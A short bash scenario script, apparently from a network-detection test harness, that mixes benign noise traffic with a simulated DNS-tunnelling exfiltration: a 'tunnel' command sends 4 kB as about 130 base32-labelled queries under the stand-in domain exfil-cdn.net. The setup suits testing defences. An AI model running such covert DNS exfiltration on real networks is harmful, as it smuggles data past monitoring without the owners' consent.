# shellcheck shell=bash
# 4 kB sent out as ~130 DNS queries with 48-character base32 labels under exfil-cdn.net (A and TXT)
# through the VPC resolver, amid benign noise.
drive() {
    local pids=()
    svc vm1 noise-tunnel noise --duration 20 --rounds 3 --pause 4; pids+=("$FW_LAST_PID")
    sleep 3
    run vm1 tunnel tunnel --server "${FW_ADDR[dns]}" --domain exfil-cdn.net --bytes 4000 --label 48
    wait_pids "${pids[@]}"
}
